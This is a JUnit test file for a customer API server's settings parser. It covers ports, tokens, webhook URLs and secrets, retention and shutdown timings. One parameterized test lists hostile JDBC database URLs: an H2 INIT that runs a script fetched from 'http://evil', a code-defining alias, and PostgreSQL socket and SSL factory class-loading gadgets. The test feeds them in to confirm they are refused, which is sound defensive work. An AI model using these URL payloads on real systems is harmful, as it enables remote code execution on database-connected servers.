package dev.customers.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.customers.domain.events.RetrySchedule;
import dev.customers.http.ApiSettings.LogFormat;
import dev.customers.server.ServerSettings.InvalidSettingException;
import dev.customers.jdbi.JdbiCustomerRepository.Durability;
import java.net.URI;
import java.time.Duration;
import java.util.Base64;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ServerSettingsTest {

  @Test
  void defaults_listen_locally_on_8080_with_h2_in_a_file_and_a_generated_token() {
    ServerSettings settings = ServerSettings.from(Map.of());

    assertThat(settings.host()).isEqualTo("127.0.0.1");
    assertThat(settings.port()).isEqualTo(8080);
    assertThat(settings.databaseUrl()).isEqualTo("jdbc:h2:file:./data/customers");
    assertThat(settings.databaseUser()).isEqualTo("sa");
    assertThat(settings.requestsPerSecond()).isEqualTo(4);
    assertThat(settings.refusalsPerSecond()).isEqualTo(5);
    assertThat(settings.warnings()).isEmpty();
    assertThat(settings.generatedToken()).hasValueSatisfying(token -> {
      assertThat(token).hasSizeGreaterThanOrEqualTo(40).matches("[A-Za-z0-9_-]+");
      assertThat(settings.tokens()).containsOnlyKeys(token);
      assertThat(settings.tokens().get(token)).containsExactlyInAnyOrder("users:read", "users:write");
    });
  }

  @Test
  void generated_tokens_differ_from_run_to_run() {
    assertThat(ServerSettings.from(Map.of()).generatedToken())
        .isNotEqualTo(ServerSettings.from(Map.of()).generatedToken());
  }

  @Test
  void every_variable_is_read() {
    ServerSettings settings = ServerSettings.from(Map.of(
        "CUSTOMERS_PORT", "9090",
        "CUSTOMERS_HOST", "0.0.0.0",
        "CUSTOMERS_DB_URL", "jdbc:postgresql://db:5432/customers",
        "CUSTOMERS_DB_USER", "app",
        "CUSTOMERS_DB_PASSWORD", "pw",
        "CUSTOMERS_RATE_LIMIT", "0",
        "CUSTOMERS_REFUSAL_LIMIT", "2",
        "CUSTOMERS_IDEMPOTENCY_TTL", "P7D",
        "CUSTOMERS_TOKENS", "s3cret=users:write users:read, ro=users:read"));

    assertThat(settings.port()).isEqualTo(9090);
    assertThat(settings.host()).isEqualTo("0.0.0.0");
    assertThat(settings.databaseUrl()).isEqualTo("jdbc:postgresql://db:5432/customers");
    assertThat(settings.databaseUser()).isEqualTo("app");
    assertThat(settings.databasePassword()).isEqualTo("pw");
    assertThat(settings.requestsPerSecond()).isZero();
    assertThat(settings.refusalsPerSecond()).isEqualTo(2);
    assertThat(settings.idempotencyTtl()).isEqualTo(Duration.ofDays(7));
    assertThat(settings.tokens()).isEqualTo(Map.of(
        "s3cret", Set.of("users:write", "users:read"),
        "ro", Set.of("users:read")));
    assertThat(settings.generatedToken()).isEmpty();
    assertThat(settings.toString()).doesNotContain("s3cret", "pw");
  }

  /** A URL setting that runs code of whoever wrote the URL at each open is refused, naming the setting only. */
  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:h2:file:./data/customers;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
      "jdbc:h2:file:./data/customers;DB_CLOSE_DELAY=-1;init=CREATE ALIAS X AS 'int x() { return 1; }'",
      "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=com.example.Listener",
      "jdbc:postgresql://db/customers?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
      "jdbc:postgresql://db/customers?user=a&sslfactory=com.example.Factory",
  })
  void a_database_url_that_runs_code_at_open_is_refused(String url) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_DB_URL", url)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessageStartingWith("CUSTOMERS_DB_URL must not set ")
        .hasMessageContaining("each time the database opens")
        .hasMessageNotContaining("evil").hasMessageNotContaining("db/customers");
  }

  @Test
  void short_tokens_and_webhooks_in_clear_text_over_the_network_are_warned_about_not_refused() {
    ServerSettings settings = ServerSettings.from(Map.of(
        "CUSTOMERS_TOKENS", "s3cret=users:write, " + "x".repeat(32) + "=users:read, ro=users:read",
        "CUSTOMERS_WEBHOOK_URLS", "http://hooks.example.com/in, http://127.0.0.1:9000/in, https://secure.example.com/",
        "CUSTOMERS_WEBHOOK_SECRET", "whsec_" + java.util.Base64.getEncoder().encodeToString(new byte[32])));

    assertThat(settings.warnings()).hasSize(2)
        .anySatisfy(warning -> assertThat(warning).startsWith("2 of the tokens in CUSTOMERS_TOKENS are shorter than "
            + "32 characters").doesNotContain("s3cret"))
        .anySatisfy(warning -> assertThat(warning).contains("hooks.example.com (http://)"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"abc", "0", "65536", "-1", "80.5", "", "99999999999"})
  void a_bad_port_names_the_variable_and_the_value(String port) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_PORT", port)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessage("CUSTOMERS_PORT must be a number from 1 to 65535, got \"" + port + "\"");
  }

  @ParameterizedTest
  @ValueSource(strings = {"-1", "fast", "1.5"})
  void a_bad_rate_limit_names_the_variable(String rate) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_RATE_LIMIT", rate)))
        .hasMessageStartingWith("CUSTOMERS_RATE_LIMIT must be")
        .hasMessageEndingWith("got \"" + rate + "\"");
  }

  @Test
  void idempotency_keys_are_kept_24_hours_by_default() {
    assertThat(ServerSettings.from(Map.of()).idempotencyTtl()).isEqualTo(Duration.ofHours(24));
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_IDEMPOTENCY_TTL", " PT90M ")).idempotencyTtl())
        .isEqualTo(Duration.ofMinutes(90));
  }

  @ParameterizedTest
  @ValueSource(strings = {"24h", "PT0S", "-PT1H", "", "P1Y"})
  void a_bad_idempotency_ttl_names_the_variable_and_the_value(String ttl) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_IDEMPOTENCY_TTL", ttl)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessage("CUSTOMERS_IDEMPOTENCY_TTL must be a positive ISO-8601 duration such as PT24H or P7D, got \""
            + ttl + "\"");
  }

  @Test
  void the_access_log_is_plain_unless_json_is_asked_for() {
    assertThat(ServerSettings.from(Map.of()).logFormat()).isEqualTo(LogFormat.PLAIN);
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_LOG_FORMAT", "json")).logFormat()).isEqualTo(LogFormat.JSON);
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_LOG_FORMAT", "plain")).logFormat()).isEqualTo(LogFormat.PLAIN);
  }

  @ParameterizedTest
  @ValueSource(strings = {"JSON", "", "logfmt"})
  void a_bad_log_format_names_the_variable_and_the_choices(String format) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_LOG_FORMAT", format)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessageStartingWith("CUSTOMERS_LOG_FORMAT must be plain (the default) or json")
        .hasMessageEndingWith("got \"" + format + "\"");
  }

  @Test
  void durability_is_power_loss_unless_process_crash_is_asked_for() {
    assertThat(ServerSettings.from(Map.of()).databaseDurability()).isEqualTo(Durability.POWER_LOSS);
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_DB_DURABILITY", "power-loss")).databaseDurability())
        .isEqualTo(Durability.POWER_LOSS);
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_DB_DURABILITY", "process-crash")).databaseDurability())
        .isEqualTo(Durability.PROCESS_CRASH);
  }

  @ParameterizedTest
  @ValueSource(strings = {"fsync", "", "POWER_LOSS"})
  void a_bad_durability_names_the_variable_and_the_choices(String durability) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_DB_DURABILITY", durability)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessageStartingWith("CUSTOMERS_DB_DURABILITY must be power-loss (the default")
        .hasMessageEndingWith("got \"" + durability + "\"");
  }

  @Test
  void a_database_url_of_another_kind_is_refused_without_echoing_it() {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_DB_URL", "mysql://root:hunter2@db/x")))
        .hasMessageStartingWith("CUSTOMERS_DB_URL must be a JDBC URL")
        .hasMessageNotContaining("hunter2");
  }

  @Test
  void bad_tokens_are_named_by_position_never_by_token() {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_TOKENS", "good=users:read, secret-one")))
        .hasMessageStartingWith("CUSTOMERS_TOKENS entry 2 must look like TOKEN=SCOPE")
        .hasMessageNotContaining("secret-one");
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_TOKENS", "secret-two=users:delete")))
        .hasMessage("CUSTOMERS_TOKENS entry 1 has the scope \"users:delete\"; the scopes are users:read, "
            + "users:write, admin:read and admin:write");
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_TOKENS", "=users:read")))
        .hasMessage("CUSTOMERS_TOKENS entry 1 has an empty token or one with spaces");
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_TOKENS", "a=users:read,a=admin:read")))
        .hasMessage("CUSTOMERS_TOKENS entry 2 repeats a token of an earlier entry");
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_TOKENS", "lonely=")))
        .hasMessage("CUSTOMERS_TOKENS entry 1 has no scopes");
  }

  private static final String SECRET = "whsec_" + Base64.getEncoder().encodeToString(new byte[32]);

  @Test
  void without_webhook_variables_nothing_is_sent_and_events_are_kept_a_week() {
    EventSettings events = ServerSettings.from(Map.of()).events();

    assertThat(events.webhooks()).isFalse();
    assertThat(events.webhookUrls()).isEmpty();
    assertThat(events.webhookSecret()).isEmpty();
    assertThat(events.retention()).isEqualTo(Duration.ofDays(7));
    assertThat(events.retries()).isSameAs(RetrySchedule.STANDARD);
  }

  @Test
  void webhook_urls_and_secret_are_read_and_never_shown() {
    ServerSettings settings = ServerSettings.from(Map.of(
        "CUSTOMERS_WEBHOOK_URLS", " https://user:pw@hooks.example.com/a?token=t0ken , http://127.0.0.1:9000/b",
        "CUSTOMERS_WEBHOOK_SECRET", SECRET,
        "CUSTOMERS_EVENT_RETENTION", "P30D"));

    assertThat(settings.events().webhookUrls()).containsExactly(
        URI.create("https://user:pw@hooks.example.com/a?token=t0ken"), URI.create("http://127.0.0.1:9000/b"));
    assertThat(settings.events().webhookSecret()).contains(SECRET);
    assertThat(settings.events().retention()).isEqualTo(Duration.ofDays(30));
    assertThat(settings.toString()).doesNotContain("pw", "t0ken", "hooks.example.com", SECRET.substring(6));
  }

  @ParameterizedTest
  @ValueSource(strings = {"ftp://user:pw@shown.test/x", "shown.test/x", "/hooks", "https://", "http:pw",
      "https://ok.test/a,", "https://ok.test/a,,https://ok.test/b", "https://a b.shown.test/"})
  void a_webhook_url_that_is_not_absolute_http_is_refused_by_position_without_showing_it(String urls) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_WEBHOOK_URLS", urls,
        "CUSTOMERS_WEBHOOK_SECRET", SECRET)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessageMatching("CUSTOMERS_WEBHOOK_URLS(: Webhook URL [0-9] is not an absolute http:// or https:// URL"
            + "| entry [0-9] is not a URL).*")
        .hasMessageNotContaining("pw")
        .hasMessageNotContaining("test/");
  }

  @Test
  void a_repeated_webhook_url_is_refused() {
    assertThatThrownBy(() -> ServerSettings.from(Map.of(
        "CUSTOMERS_WEBHOOK_URLS", "https://a.example.com/x, https://b.example.com/y,https://a.example.com/x",
        "CUSTOMERS_WEBHOOK_SECRET", SECRET)))
        .hasMessage("CUSTOMERS_WEBHOOK_URLS entry 3 repeats entry 1");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "secret", "whsec_", "whsec_not*base64", "whsec_c2hvcnQ=",
      "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==" /* 22 bytes */})
  void a_missing_short_or_malformed_secret_with_urls_names_the_variable_without_showing_it(String secret) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_WEBHOOK_URLS", "https://hooks.example.com/x",
        "CUSTOMERS_WEBHOOK_SECRET", secret)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessageStartingWith("CUSTOMERS_WEBHOOK_SECRET must be set with CUSTOMERS_WEBHOOK_URLS. A webhook secret is "
            + "whsec_ followed by the base64 of at least 24 random bytes")
        .satisfies(e -> {
          if (secret.length() > "whsec_".length()) {
            assertThat(e.getMessage()).doesNotContain(secret);
          }
        });
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_WEBHOOK_URLS", "https://hooks.example.com/x")))
        .hasMessageStartingWith("CUSTOMERS_WEBHOOK_SECRET must be set with CUSTOMERS_WEBHOOK_URLS");
  }

  @Test
  void a_secret_of_24_bytes_is_enough_as_the_specifications_own_example() {
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_WEBHOOK_URLS", "https://hooks.example.com/x",
        "CUSTOMERS_WEBHOOK_SECRET", "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw")).events().webhooks()).isTrue();
  }

  @Test
  void a_secret_without_urls_is_refused_as_a_likely_misspelt_urls_variable() {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_WEBHOOK_URL", "https://hooks.example.com/x",
        "CUSTOMERS_WEBHOOK_SECRET", SECRET)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessage("CUSTOMERS_WEBHOOK_SECRET is set but CUSTOMERS_WEBHOOK_URLS is not: set both to send webhooks, "
            + "or neither");
  }

  @ParameterizedTest
  @ValueSource(strings = {"P3D", "PT86H", "7d", "", "-P7D", "PT0S"})
  void an_event_retention_not_longer_than_the_retries_names_the_variable_and_the_value(String retention) {
    assertThat(RetrySchedule.STANDARD.longestSpan()).isBetween(Duration.ofHours(86), Duration.ofHours(87));
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_EVENT_RETENTION", retention)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessageStartingWith("CUSTOMERS_EVENT_RETENTION must be an ISO-8601 duration longer than the retries' "
            + "longest span (3.6 days), such as P7D")
        .hasMessageEndingWith("got \"" + retention + "\"");
  }

  @Test
  void an_event_retention_just_over_the_retries_longest_span_is_taken() {
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_EVENT_RETENTION", "P4D")).events().retention())
        .isEqualTo(Duration.ofDays(4));
  }

  @Test
  void a_stop_drains_5_seconds_within_25_by_default_and_both_are_read() {
    ServerSettings defaults = ServerSettings.from(Map.of());
    assertThat(defaults.shutdownDrain()).isEqualTo(Duration.ofSeconds(5));
    assertThat(defaults.shutdownTimeout()).isEqualTo(Duration.ofSeconds(25));

    ServerSettings set = ServerSettings.from(Map.of(
        "CUSTOMERS_SHUTDOWN_DRAIN", " PT1.5S ", "CUSTOMERS_SHUTDOWN_TIMEOUT", "PT1M"));
    assertThat(set.shutdownDrain()).isEqualTo(Duration.ofMillis(1_500));
    assertThat(set.shutdownTimeout()).isEqualTo(Duration.ofMinutes(1));
  }

  @Test
  void a_stop_waits_2_seconds_for_a_kept_alive_clients_next_request_by_default_and_the_wait_is_read() {
    assertThat(ServerSettings.from(Map.of()).shutdownQuiet()).isEqualTo(Duration.ofSeconds(2));
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_SHUTDOWN_QUIET", " PT0.5S ")).shutdownQuiet())
        .isEqualTo(Duration.ofMillis(500));
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_SHUTDOWN_QUIET", "0")).shutdownQuiet()).isZero();
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_SHUTDOWN_QUIET", "2s")))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessage("CUSTOMERS_SHUTDOWN_QUIET must be 0 or an ISO-8601 duration such as PT2S (how long a stop waits "
            + "for a kept-alive client's next request), got \"2s\"");
  }

  @ParameterizedTest
  @ValueSource(strings = {"0", "PT0S"})
  void a_stop_may_go_without_a_drain(String drain) {
    assertThat(ServerSettings.from(Map.of("CUSTOMERS_SHUTDOWN_DRAIN", drain)).shutdownDrain()).isZero();
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "5", "5s", "-PT5S", "soon"})
  void a_bad_drain_names_the_variable_and_the_value(String drain) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_SHUTDOWN_DRAIN", drain)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessage("CUSTOMERS_SHUTDOWN_DRAIN must be 0 or an ISO-8601 duration such as PT5S (how long a stop keeps"
            + " serving while /health answers 503), got \"" + drain + "\"");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "0", "PT0S", "25", "-PT25S"})
  void a_bad_stop_timeout_names_the_variable_and_the_value(String timeout) {
    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_SHUTDOWN_TIMEOUT", timeout)))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessage("CUSTOMERS_SHUTDOWN_TIMEOUT must be a positive ISO-8601 duration such as PT25S (the longest a "
            + "stop may take), got \"" + timeout + "\"");
  }

  @Test
  void a_stop_timeout_not_longer_than_the_drain_names_both() {
    assertThatThrownBy(() -> ServerSettings.from(Map.of(
        "CUSTOMERS_SHUTDOWN_DRAIN", "PT10S", "CUSTOMERS_SHUTDOWN_TIMEOUT", "PT10S")))
        .isInstanceOf(InvalidSettingException.class)
        .hasMessage("CUSTOMERS_SHUTDOWN_TIMEOUT (PT10S) must be longer than CUSTOMERS_SHUTDOWN_DRAIN (PT10S): the "
            + "stop's bound includes the drain");
  }
}
